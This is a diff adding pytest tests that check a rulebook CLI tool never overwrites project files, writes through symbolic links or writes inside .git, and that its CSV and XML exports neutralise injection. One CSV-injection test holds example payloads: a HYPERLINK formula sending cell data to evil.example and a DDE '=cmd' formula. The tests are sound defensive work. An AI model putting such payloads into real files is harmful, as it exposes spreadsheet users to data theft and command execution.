@@ -1,0 +1,300 @@
+"""Where a report, a baseline or an export may go: a new file, or one of ours, never anything else.
+
+A CI job runs ``rulebook lint -o NAME`` in a checkout a pull request wrote: whatever NAME is there (a
+licence, a Makefile, an image, Git's own files, a link to the runner's files), it is replaced only if
+this tool wrote it, and never through a link or inside ``.git``. Each case asserts the exit status, the
+message, and that every file is as it was, byte for byte.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+from pathlib import Path
+
+import pytest
+from lxml import etree
+
+from .scratch import configure, nothing_written_outside, run, scratch, source  # noqa: F401 (fixtures)
+from .test_report_files import BOOK
+
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
+KEPT = {
+    "LICENSE": b"Permission is hereby granted, free of charge, to any person obtaining a copy\n",
+    ".gitignore": b"site/\n.venv/\n",
+    "Makefile": b"all:\n\trulebook build\n",
+    "package.json": b'{"name": "rules", "private": true}\n',
+    "rules/images/x.png": PNG,
+}
+"""Files a project keeps, none of them a report: each must survive every command's ``-o``."""
+TERMS = '[march]\npreferred = "marcher"\n'
+WRITERS = {
+    "lint text": ("lint", "--format", "text"),
+    "lint json": ("lint", "--format", "json"),
+    "lint pretty json": ("lint", "--format", "json", "--pretty"),
+    "lint github": ("lint", "--format", "github"),
+    "lint sarif": ("lint", "--format", "sarif"),
+    "graph json": ("graph", "--format", "json"),
+    "graph dot": ("graph", "--format", "dot"),
+    "graph graphml": ("graph", "--format", "graphml"),
+    "terms tbx": ("terms", "export", "terms.toml", "--format", "tbx"),
+    "terms csv": ("terms", "export", "terms.toml", "--format", "csv"),
+}
+"""Every command and format that writes a file with ``-o``."""
+NOT_OURS = "exists and is not a report this tool wrote: choose another name (a report replaces only an earlier report)"
+
+
+def _project(folder: Path) -> None:
+    """The book (one dangling reference: the lint finds an error), a terminology, and the files a project keeps."""
+    source(folder, "book.xml", BOOK)
+    (folder / "terms.toml").write_text(TERMS, encoding="utf-8")
+    for name, content in KEPT.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(content)
+
+
+@pytest.mark.parametrize("target", sorted(KEPT))
+@pytest.mark.parametrize("writer", ["lint text", "lint sarif", "graph dot", "terms csv", "terms tbx"])
+def test_a_report_never_replaces_a_file_a_project_keeps(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+    writer: str,
+    target: str,
+) -> None:
+    _project(scratch)
+    with nothing_written_outside(scratch):
+        outcome = run(capsys, *WRITERS[writer], "-o", target)
+    assert outcome.code == 2
+    assert outcome.err == f"rulebook: error: `{target}` {NOT_OURS}\n"
+    assert (scratch / target).read_bytes() == KEPT[target]
+
+
+@pytest.mark.parametrize("target", [*sorted(KEPT), "terms.toml"])
+def test_a_baseline_never_replaces_a_file_a_project_keeps(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+    target: str,
+) -> None:
+    _project(scratch)
+    with nothing_written_outside(scratch):
+        outcome = run(capsys, "lint", "--write-baseline", target)
+    assert outcome.code == 2
+    assert outcome.err == (
+        f"rulebook: error: `{target}` exists and is not a baseline this tool wrote: "
+        "choose another name (a baseline replaces only an earlier baseline)\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("lint", "-o", ".git/config"),
+        ("lint", "--format", "sarif", "-o", ".git/HEAD"),
+        ("graph", "-o", ".git/hooks/pre-commit"),
+        ("terms", "export", "terms.toml", "-o", ".git/info/exclude"),
+        ("lint", "--write-baseline", ".git/baseline.json"),
+        ("lint", "-o", "rules/../.git/config"),
+        ("lint", "-o", "vendor/theme/.git/config"),
+        ("lint", "-o", ".GIT/config"),  # the same folder on macOS
+    ],
+)
+def test_nothing_is_ever_written_inside_git(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+    argv: tuple[str, ...],
+) -> None:
+    _project(scratch)
+    for git in (scratch / ".git", scratch / "vendor" / "theme" / ".git"):
+        (git / "hooks").mkdir(parents=True)
+        (git / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
+        (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n", encoding="utf-8")
+    with nothing_written_outside(scratch):
+        outcome = run(capsys, *argv)
+    assert outcome.code == 2
+    shown = os.path.normpath(argv[-1])
+    assert outcome.err == f"rulebook: error: cannot write `{shown}`: it is inside `.git`, Git's own folder\n"
+
+
+def test_a_report_is_never_written_through_a_link(
+    scratch: Path,  # noqa: F811
+    tmp_path_factory: pytest.TempPathFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A pull request commits links where CI writes its reports: to a file of the project, out of it, to nowhere yet."""
+    _project(scratch)
+    outside = tmp_path_factory.mktemp("runner")
+    (outside / "earlier.txt").write_text("All checks passed (1 file).\n", encoding="utf-8")  # looks like ours
+    (scratch / "to-licence.txt").symlink_to("LICENSE")
+    (scratch / "to-runner.txt").symlink_to(outside / "earlier.txt")
+    (scratch / "to-nowhere.txt").symlink_to(outside / "new.txt")
+    (scratch / "reports").symlink_to(outside)
+    with nothing_written_outside(scratch), nothing_written_outside(outside):
+        for name in ("to-licence.txt", "to-runner.txt", "to-nowhere.txt"):
+            outcome = run(capsys, "lint", "-o", name)
+            assert outcome.code == 2
+            assert (
+                outcome.err == f"rulebook: error: cannot write `{name}`: it is a symbolic link; name the file itself\n"
+            )
+        outcome = run(capsys, "graph", "-o", "reports/graph.json")
+        assert outcome.code == 2
+        assert outcome.err == (
+            "rulebook: error: cannot write `reports/graph.json`: `reports` on the way is a symbolic link; "
+            "name a folder of the project itself\n"
+        )
+        outcome = run(capsys, "lint", "--write-baseline", "reports/baseline.json")
+        assert outcome.code == 2 and "`reports` on the way is a symbolic link" in outcome.err
+
+
+def test_a_link_of_ones_own_to_a_stream_is_written_into(
+    scratch: Path,  # noqa: F811
+    tmp_path_factory: pytest.TempPathFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Outside the project, a link to a device (``/dev/stdout`` is one) is the user's own: written into."""
+    _project(scratch)
+    outside = tmp_path_factory.mktemp("elsewhere")
+    (outside / "null").symlink_to(os.devnull)
+    outcome = run(capsys, "lint", "-o", str(outside / "null"))
+    assert outcome.code == 1 and outcome.err == ""
+    assert (outside / "null").is_symlink() and stat.S_ISCHR((outside / "null").stat().st_mode)
+
+
+def test_each_report_replaces_an_earlier_report_of_any_format(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Each format is recognised as ours: it replaces itself, and the next format replaces it (text after CSV)."""
+    _project(scratch)
+    report = scratch / "report.out"
+    for writer in [*WRITERS, "lint text"]:
+        for _ in range(2):
+            outcome = run(capsys, *WRITERS[writer], "-o", "report.out")
+            assert outcome.code == (1 if writer.startswith("lint") else 0), (writer, outcome.err)
+        printed = run(capsys, *WRITERS[writer]).out
+        assert report.read_text(encoding="utf-8") == printed, writer
+
+
+def test_a_baseline_replaces_only_a_baseline_and_a_report_only_a_report(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    _project(scratch)
+    assert run(capsys, "lint", "--write-baseline", "baseline.json").code == 0
+    assert run(capsys, "lint", "--format", "json", "-o", "report.json").code == 1
+    kept = (scratch / "baseline.json").read_bytes(), (scratch / "report.json").read_bytes()
+    outcome = run(capsys, "lint", "--format", "json", "-o", "baseline.json")
+    assert outcome.code == 2 and outcome.err == f"rulebook: error: `baseline.json` {NOT_OURS}\n"
+    outcome = run(capsys, "lint", "--write-baseline", "report.json")
+    assert outcome.code == 2 and "`report.json` exists and is not a baseline this tool wrote" in outcome.err
+    assert ((scratch / "baseline.json").read_bytes(), (scratch / "report.json").read_bytes()) == kept
+    (scratch / "empty.json").touch()  # nothing to lose: an empty file is replaced
+    assert run(capsys, "lint", "--write-baseline", "empty.json").code == 0
+    assert '"charge"' in (scratch / "empty.json").read_text(encoding="utf-8")
+
+
+def test_init_never_writes_through_a_link_or_into_git(
+    scratch: Path,  # noqa: F811
+    tmp_path_factory: pytest.TempPathFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    outside = tmp_path_factory.mktemp("elsewhere")
+    (scratch / "game").mkdir()
+    (scratch / "game" / "rules").symlink_to(outside)
+    (scratch / ".git").mkdir()
+    with nothing_written_outside(scratch), nothing_written_outside(outside):
+        outcome = run(capsys, "init", "game")
+        assert outcome.code == 2
+        assert outcome.err == (
+            "rulebook: error: cannot write `rules/book.xml`: `rules` on the way is a symbolic link; "
+            "name a folder of the project itself\n"
+        )
+        outcome = run(capsys, "init", ".git")
+        assert outcome.code == 2
+        assert outcome.err == "rulebook: error: cannot write `rulebook.toml`: it is inside `.git`, Git's own folder\n"
+    source(scratch, "book.xml", BOOK)
+    (scratch / "rules").symlink_to(outside)
+    with nothing_written_outside(scratch), nothing_written_outside(outside):
+        outcome = run(capsys, "new-book", "campaign")
+    assert outcome.code == 2 and "`rules` on the way is a symbolic link" in outcome.err
+
+
+def test_a_csv_export_holds_no_formula(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A contributor's terms.toml cannot make a translator's spreadsheet run a formula (OWASP, CSV Injection)."""
+    source(scratch, "book.xml", BOOK)
+    (scratch / "terms.toml").write_text(
+        '[march]\npreferred = "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"click\\")"\n'
+        'accepted = ["+1", "-1", "@SUM(A1)", "x;=1+1"]\nforbidden = ["=cmd|\' /C calc\'!A0"]\n',
+        encoding="utf-8",
+    )
+    outcome = run(capsys, "terms", "export", "terms.toml", "--format", "csv")
+    assert outcome.code == 0
+    assert outcome.out == (
+        '"term_id","en","fr","fr_accepted","fr_forbidden"\n'
+        '"march","march","\'=HYPERLINK(""https://evil.example/?""&A1, ""click"")","\'+1|-1|@SUM(A1)|x;=1+1",'
+        "\"'=cmd|' /C calc'!A0\"\n"
+    )
+    rows = list(csv.reader(io.StringIO(outcome.out)))
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("terms", "said"),
+    [
+        ('[march]\npreferred = "mar\\u0001cher"\n', "`preferred` of `march` holds the control character U+0001"),
+        (
+            '[march]\npreferred = "marcher"\naccepted = ["\\tx"]\n',
+            "`accepted` of `march` holds the control character U+0009",
+        ),
+        ('["mar\\u001bch"]\npreferred = "marcher"\n', "a term id holds the control character U+001B"),
+        (
+            '[march]\npreferred = "marcher"\nforbidden = ["\\r=1"]\n',
+            "`forbidden` of `march` holds the control character U+000D",
+        ),
+    ],
+)
+def test_a_term_with_a_control_character_is_a_plain_error(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+    terms: str,
+    said: str,
+) -> None:
+    source(scratch, "book.xml", BOOK)
+    (scratch / "terms.toml").write_text(terms, encoding="utf-8")
+    for export in ("tbx", "csv"):
+        with nothing_written_outside(scratch):
+            outcome = run(capsys, "terms", "export", "terms.toml", "--format", export, "-o", "terms.out")
+        assert outcome.code == 2
+        assert outcome.err == f"rulebook: error: terms.toml: {said}: a term is one line of text\n"
+
+
+def test_a_tbx_export_is_valid_xml_whatever_the_title(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    source(scratch, "book.xml", BOOK)
+    configure(scratch, 'title = "Tiles\\u0001and\\u001bDice\\uffff"\n')
+    (scratch / "terms.toml").write_text(TERMS, encoding="utf-8")
+    outcome = run(capsys, "terms", "export", "terms.toml")
+    assert outcome.code == 0
+    tbx = etree.fromstring(outcome.out.encode("utf-8"))
+    paragraph = tbx.find(".//{urn:iso:std:iso:30042:ed-2}p")
+    assert paragraph is not None and paragraph.text == "Tiles\u2401and\u241bDice\ufffd: terminology, English-French"
+
+
+def test_a_graphml_export_is_valid_xml_whatever_a_heading_holds(
+    scratch: Path,  # noqa: F811
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A Markdown heading can hold a control character XML 1.0 forbids: the export shows it as its picture."""
+    source(scratch, "book.md", "<!-- rulebook -->\n# 1 Rules\n\n## Mo\x01ve\n\nA *Mo\x01ve* is a move.\n")
+    configure(scratch, "emphasis = true\n")
+    outcome = run(capsys, "graph", "--format", "graphml")
+    assert outcome.code == 0
+    graph = etree.fromstring(outcome.out.encode("utf-8"))
+    names = {data.text for data in graph.iter("{http://graphml.graphdrawing.org/xmlns}data")}
+    assert "Mo\u2401ve" in names  # the section's title
